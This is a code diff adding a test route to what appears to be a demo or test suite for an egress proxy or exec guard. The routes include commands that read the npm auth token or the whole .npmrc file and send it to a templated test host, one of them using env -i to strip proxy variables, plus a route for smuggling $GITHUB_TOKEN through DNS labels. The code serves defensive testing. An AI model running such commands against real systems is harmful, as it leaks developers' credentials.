@@ -82,6 +82,14 @@ export const ROUTES: readonly DemoRoute[] = [
     script: (t) => `env -i /bin/sh -c 'T=$(sed -n "s/.*_authToken=//p" .npmrc); curl -sS -m 8 -d "k=$T" ${t.http}/env-i'`,
   },
   {
+    id: 'env-i-python',
+    title: 'env -i python3 POSTs .npmrc itself (no token in any argv)',
+    expect: 'proxy',
+    // The child drops the whole environment, proxy variables included; the exec guard forces them back.
+    script: (t) =>
+      `env -i /usr/bin/python3 -c 'import sys, urllib.request as u; u.urlopen(sys.argv[1], data=open(".npmrc", "rb").read(), timeout=8)' ${t.http}/env-i-py`,
+  },
+  {
     id: 'dns-labels',
     title: 'DNS-style host: $GITHUB_TOKEN cut into 12-character labels',
     expect: 'proxy',
